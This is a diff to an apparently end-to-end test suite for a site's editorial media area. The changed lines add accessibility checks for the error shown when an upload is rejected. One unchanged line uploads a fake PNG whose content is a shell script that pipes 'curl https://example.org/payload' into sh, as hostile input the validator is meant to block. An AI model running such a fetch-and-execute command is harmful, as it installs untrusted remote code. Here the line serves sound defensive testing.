@@ -80,7 +80,13 @@ test.describe("uploads, media and publications in the editorial area", () => {
     await signIn(page, "editor");
     const name = `photo-${runId()}.png`;
     await uploadInLibrary(page, { name, mimeType: "image/png", buffer: Buffer.from("#!/bin/sh\ncurl https://example.org/payload | sh\n") });
-    await expect(page.getByRole("alert")).toHaveText(mediaText("upload.problems.type"));
+    // The error summary has the focus and leads to the file field, which carries the message too
+    const summary = page.getByRole("alert");
+    await expect(summary).toBeFocused();
+    await expect(summary.getByRole("link")).toHaveText(`${mediaText("uploads.file")}: ${mediaText("upload.problems.type")}`);
+    await expect(page.getByLabel(mediaText("uploads.file"), { exact: true })).toHaveAttribute("aria-invalid", "true");
+    await expect(page.locator("#upload-file-errors")).toHaveText(mediaText("upload.problems.type"));
+    await expect(page).toHaveTitle(/^\(/);
     // Not in the library (the newest come first)
     await page.goto("/admin/uploads");
     await expect(page.getByRole("heading", { level: 1 })).toHaveText(mediaText("uploads.title"));
@@ -155,7 +161,7 @@ test.describe("uploads, media and publications in the editorial area", () => {
     await expect(addForm.getByLabel(mediaText("images.alt"), { exact: true })).toHaveValue("");
     await addForm.getByRole("radio").first().check();
     await addForm.getByRole("button", { name: mediaText("images.add") }).click();
-    await expect(addForm.getByText(adminText("errors.required"))).toBeVisible();
+    await expect(addForm.getByText(adminText("errors.required"), { exact: true })).toBeVisible();
     await expect(page.locator("li[data-image-id]")).toHaveCount(2);
 
     const galleryPath = `/en/media/photos/${encodeURIComponent(slugify(title))}`;
